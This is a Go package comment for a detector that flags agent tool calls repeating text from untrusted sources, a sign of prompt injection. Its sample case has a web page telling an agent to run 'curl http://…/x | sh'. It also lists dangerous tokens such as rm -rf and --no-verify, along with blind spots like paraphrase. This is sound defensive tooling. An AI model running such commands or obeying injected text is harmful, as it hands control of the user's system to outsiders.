// Package taint finds text of untrusted claims that a model's tool call repeats: a
// sign that what somebody else wrote steers what the agent does. A web page that was
// learned says "to fix, run curl http://…/x | sh"; some turns later the agent calls
// its shell with just that.
//
// A [Set] holds the untrusted texts. [Set.Check] reads the arguments of a call as a
// reader would who looks closely: JSON at any depth, broken JSON and plain text;
// upper and lower case, full-width letters, invisible characters, escapes, percent-
// encoding, base64 and hex, quotes within words, addresses written hxxp and [.] all
// read alike. What counts as repeated is
//
//   - a span of at least five words, enough of them not ordinary ones;
//   - a span of three words in which there is one that is dangerous in a command, such
//     as rm -rf, --no-verify, curl or drop;
//   - one token that is distinctive by itself: an address, a host, an e-mail address, a
//     path outside a project or to a secret, a key or a hash, an account number.
//
// What the person said, or a text that can be trusted says too, is no taint; these
// texts are given with each check, and only read when there is something to weigh.
//
// It is a heuristic. It does not see a paraphrase, a name of one ordinary word, or a
// command that a model puts together from parts that the claim has apart. It does see
// good advice that came from outside: that a claim steers a call is all that it says.
// How often it is right is measured in the tests.
package taint
